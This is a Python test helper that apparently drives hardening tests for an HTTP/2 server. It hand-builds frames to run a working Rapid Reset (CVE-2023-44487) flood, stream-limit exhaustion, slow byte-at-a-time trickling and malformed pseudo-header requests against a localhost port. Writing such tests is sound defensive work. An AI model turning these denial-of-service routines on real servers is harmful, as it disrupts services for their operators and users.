#!/usr/bin/python3
"""HTTP/2 clients that misbehave on purpose, for tests/integration/test_hardening.c.

Frames are built by hand (header blocks by python3-hpack, from Debian's python3-h2
family) so the client can do what a well-behaved library refuses to: cancel streams as
fast as the socket takes them, trickle one frame a byte at a time, open more streams
than the server allows. Cleartext HTTP/2 with prior knowledge; one JSON object on stdout.

  h2_attack.py flood PORT [--seconds S] [--connections N] [--path P]
      Rapid Reset (CVE-2023-44487): HEADERS + RST_STREAM(CANCEL) pairs, pipelined, on
      N connections one after the other, each until the server closes it or S seconds.
      --split: streams opened in one write (uploads that never end), cancelled in the next.
  h2_attack.py streams PORT
      Reads the server's SETTINGS, then opens 101 streams whose requests never end.
  h2_attack.py mixed PORT [--rounds R]
      A client that cancels half of its requests (which a server must tolerate).
  h2_attack.py trickle PORT [--seconds S] [--interval I] [--body]
      Sends one HEADERS frame a byte every I seconds (--body: the request's body, one
      1-byte DATA frame every I seconds) until the server closes the connection or S
      seconds pass.
  h2_attack.py request PORT [--method M] [--scheme S] [--path P] [--header NAME:VALUE]...
      One request whose pseudo-headers hold what a library would refuse (a space in
      :method, a tab in :path, https on cleartext); reports its :status, or the stream's
      RST_STREAM code or the connection's GOAWAY.
"""
import argparse
import json
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def header_block(path, extra=()):
    # Literal fields without indexing: every block decodes the same whatever the server's
    # dynamic table holds, so one block can be sent for every stream.
    enc = hpack.Encoder()
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"127.0.0.1"), (b":path", path.encode())]
    return enc.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields + list(extra)])


class Frames:
    """Incremental parser of the server's frames."""

    def __init__(self):
        self.buf = bytearray()
        self.goaway = None  # (last_stream_id, error_code, debug)
        self.settings = {}
        self.rst = {}  # stream id -> error code
        self.ended = set()  # streams whose response is complete (END_STREAM)
        self.frames = 0

    def feed(self, data):
        self.buf += data
        pos, end = 0, len(self.buf)
        while end - pos >= 9:
            length = int.from_bytes(self.buf[pos:pos + 3], "big")
            if end - pos < 9 + length:
                break
            ftype, flags = self.buf[pos + 3], self.buf[pos + 4]
            pos += 9 + length
            self.frames += 1
            if ftype in (DATA, HEADERS) and not flags & END_STREAM:
                continue  # the common case in a flood: nothing to record
            sid = int.from_bytes(self.buf[pos - length - 4:pos - length], "big") & 0x7FFFFFFF
            payload = bytes(self.buf[pos - length:pos])
            if ftype == GOAWAY and self.goaway is None:
                self.goaway = (int.from_bytes(payload[:4], "big") & 0x7FFFFFFF, int.from_bytes(payload[4:8], "big"),
                               payload[8:].decode(errors="replace"))
            elif ftype == SETTINGS and not flags & 1:
                for i in range(0, len(payload) - 5, 6):
                    self.settings[int.from_bytes(payload[i:i + 2], "big")] = int.from_bytes(payload[i + 2:i + 6], "big")
            elif ftype == RST_STREAM:
                self.rst[sid] = int.from_bytes(payload[:4], "big")
            if ftype in (HEADERS, DATA) and flags & END_STREAM:
                self.ended.add(sid)
        del self.buf[:pos]


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def flood_one(port, path, seconds):
    """One connection: pairs until the server closes it. Returns what happened."""
    block = header_block(path)
    head = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_STREAM | END_HEADERS])
    rst = b"\x00\x00\x04" + bytes([RST_STREAM, 0])
    code = struct.pack(">I", CANCEL)
    sock = connect(port)
    sock.setblocking(False)
    server = Frames()
    out = bytearray()
    next_id = 1
    started = time.monotonic()
    closed = None
    while closed is None and time.monotonic() - started < seconds:
        if len(out) < 1 << 16:
            parts = []
            for _ in range(256):
                sid = struct.pack(">I", next_id)
                parts.append(head + sid + block + rst + sid + code)
                next_id += 2
            out += b"".join(parts)
        readable, writable, _ = select.select([sock], [sock] if out else [], [], 0.2)
        if writable:
            try:
                n = sock.send(out)
                del out[:n]
            except BlockingIOError:
                pass
            except OSError as e:
                closed = "send: " + e.strerror
        if readable:
            try:
                data = sock.recv(1 << 20)
                if not data:
                    closed = "eof"
                server.feed(data)
            except BlockingIOError:
                pass
            except OSError as e:
                closed = "recv: " + e.strerror
    elapsed = time.monotonic() - started
    # pairs whose bytes left this process (the unsent tail of `out` did not)
    generated = (next_id - 1) // 2
    pair_size = len(head) + 4 + len(block) + len(rst) + 4 + len(code)
    sent_pairs = generated - (len(out) + pair_size - 1) // pair_size
    sock.close()
    return {
        "closed": closed,
        "seconds": round(elapsed, 3),
        "pairs_sent": sent_pairs,
        "goaway_last_stream_id": server.goaway[0] if server.goaway else None,
        "goaway_error": server.goaway[1] if server.goaway else None,
        "goaway_debug": server.goaway[2] if server.goaway else None,
    }


def flood_split(port, path, seconds):
    """One connection: rounds of 32 HEADERS that open uploads (no END_STREAM), then, in a
    later write, 32 RST_STREAMs cancelling them: resets of streams opened in an earlier read."""
    block = header_block(path)
    sock = connect(port)
    server = Frames()
    next_id, sent_pairs, closed = 1, 0, None
    started = time.monotonic()
    try:
        while server.goaway is None and time.monotonic() - started < seconds:
            ids = range(next_id, next_id + 64, 2)
            next_id += 64
            sock.sendall(b"".join(frame(HEADERS, END_HEADERS, i, block) for i in ids))
            if read_until(sock, server, lambda: False, 0.005) == "eof":
                closed = "eof"
                break
            sock.sendall(b"".join(frame(RST_STREAM, 0, i, struct.pack(">I", CANCEL)) for i in ids))
            sent_pairs += len(ids)
        if closed is None:
            closed = read_until(sock, server, lambda: False, 1)
    except OSError as e:
        closed = e.strerror
    sock.close()
    return {
        "closed": closed,
        "seconds": round(time.monotonic() - started, 3),
        "pairs_sent": sent_pairs,
        "goaway_last_stream_id": server.goaway[0] if server.goaway else None,
        "goaway_error": server.goaway[1] if server.goaway else None,
        "goaway_debug": server.goaway[2] if server.goaway else None,
    }


def cmd_flood(args):
    started = time.monotonic()
    conns = []
    one = flood_split if args.split else flood_one
    while len(conns) < args.connections and time.monotonic() - started < args.seconds:
        conns.append(one(args.port, args.path, args.seconds - (time.monotonic() - started)))
    return {"connections": conns, "seconds": round(time.monotonic() - started, 3)}


def read_until(sock, server, done, timeout):
    deadline = time.monotonic() + timeout
    while not done() and time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except socket.timeout:
            break
        if not data:
            return "eof"
        server.feed(data)
    return None


def cmd_streams(args):
    sock = connect(args.port)
    server = Frames()
    read_until(sock, server, lambda: SETTINGS_MAX_CONCURRENT_STREAMS in server.settings, 3)
    block = header_block("/healthz")
    # HEADERS without END_STREAM: each request waits for a body that never comes, so its
    # stream stays open on the server.
    sock.sendall(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(101)))
    last = 1 + 2 * 100
    closed = read_until(sock, server, lambda: last in server.rst or server.goaway is not None, 3)
    sock.close()
    return {
        "max_concurrent_streams": server.settings.get(SETTINGS_MAX_CONCURRENT_STREAMS),
        "reset_streams": {str(k): v for k, v in sorted(server.rst.items())},
        "goaway": server.goaway,
        "closed": closed,
    }


def cmd_mixed(args):
    """A client that cancels half its requests: rounds of 20 uploads, 10 finished (and
    their answers read), 10 cancelled. Reports whether the server ever sent GOAWAY."""
    sock = connect(args.port)
    server = Frames()
    block = header_block("/healthz")
    next_id, cancelled, completed, closed = 1, 0, 0, None
    for _ in range(args.rounds):
        ids = list(range(next_id, next_id + 40, 2))
        next_id += 40
        out = [frame(HEADERS, END_HEADERS, i, block) for i in ids]
        out += [frame(DATA, END_STREAM, i) for i in ids[:10]]
        out += [frame(RST_STREAM, 0, i, struct.pack(">I", CANCEL)) for i in ids[10:]]
        sock.sendall(b"".join(out))
        closed = read_until(sock, server, lambda: all(i in server.ended for i in ids[:10]) or server.goaway, 3)
        if closed or server.goaway:
            break
        answered = sum(1 for i in ids[:10] if i in server.ended)
        if answered < 10:  # the round timed out: only what was answered counts
            completed += answered
            closed = "timeout: %d of 10 answers within 3 s" % answered
            break
        completed += 10
        cancelled += 10
    sock.close()
    return {"completed": completed, "cancelled": cancelled, "goaway": server.goaway, "closed": closed}


def cmd_trickle(args):
    sock = connect(args.port)
    server = Frames()
    if args.body:
        # the request's headers at once, then its body a 1-byte DATA frame at a time
        sock.sendall(frame(HEADERS, END_HEADERS, 1, header_block("/healthz")))
        data = frame(DATA, 0, 1, b"a") * 1000
        step = len(frame(DATA, 0, 1, b"a"))
    else:
        data = frame(HEADERS, END_STREAM | END_HEADERS, 1, header_block("/healthz", [(b"x-pad", b"a" * 200)]))
        step = 1
    started = time.monotonic()
    sent, closed = 0, None
    while closed is None and sent < len(data) and time.monotonic() - started < args.seconds:
        try:
            sock.sendall(data[sent:sent + step])
            sent += step
        except OSError as e:
            closed = "send: " + e.strerror
            break
        deadline = time.monotonic() + args.interval
        while closed is None and time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = sock.recv(65536)
                if not chunk:
                    closed = "eof"
                server.feed(chunk)
            except socket.timeout:
                pass
            except OSError as e:
                closed = "recv: " + e.strerror
    sock.close()
    return {"closed": closed, "seconds": round(time.monotonic() - started, 3), "bytes_sent": sent,
            "frame_bytes": len(data), "goaway": server.goaway}


def cmd_request(args):
    enc = hpack.Encoder()
    fields = [(b":method", args.method.encode()), (b":scheme", args.scheme.encode()), (b":authority", b"127.0.0.1"),
              (b":path", args.path.encode())]
    for h in args.header:
        name, _, value = h.partition(":")
        fields.append((name.strip().lower().encode(), value.strip().encode()))
    block = enc.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields])
    sock = connect(args.port)
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    dec, buf, status, rst, goaway = hpack.Decoder(), bytearray(), None, None, None
    deadline = time.monotonic() + 10
    while status is None and rst is None and goaway is None and time.monotonic() < deadline:
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
            length = int.from_bytes(buf[:3], "big")
            ftype, sid, payload = buf[3], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, bytes(buf[9:9 + length])
            del buf[:9 + length]
            if ftype == HEADERS and sid == 1:
                status = int(dict(dec.decode(payload)).get(":status", "0"))
            elif ftype == RST_STREAM and sid == 1:
                rst = int.from_bytes(payload[:4], "big")
            elif ftype == GOAWAY:
                goaway = int.from_bytes(payload[4:8], "big")
    sock.close()
    return {"status": status, "rst": rst, "goaway": goaway}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("flood")
    p.add_argument("port", type=int)
    p.add_argument("--seconds", type=float, default=3)
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--path", default="/healthz")
    p.add_argument("--split", action="store_true", help="open uploads in one write, cancel them in the next")
    p = sub.add_parser("streams")
    p.add_argument("port", type=int)
    p = sub.add_parser("mixed")
    p.add_argument("port", type=int)
    p.add_argument("--rounds", type=int, default=100)
    p = sub.add_parser("trickle")
    p.add_argument("port", type=int)
    p.add_argument("--body", action="store_true", help="send the headers at once and trickle the body in 1-byte DATA frames")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--interval", type=float, default=1)
    p = sub.add_parser("request")
    p.add_argument("port", type=int)
    p.add_argument("--method", default="GET")
    p.add_argument("--scheme", default="http")
    p.add_argument("--path", default="/healthz")
    p.add_argument("--header", action="append", default=[])
    args = parser.parse_args()
    result = {"flood": cmd_flood, "streams": cmd_streams, "mixed": cmd_mixed, "trickle": cmd_trickle,
              "request": cmd_request}[args.cmd](args)
    json.dump(result, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
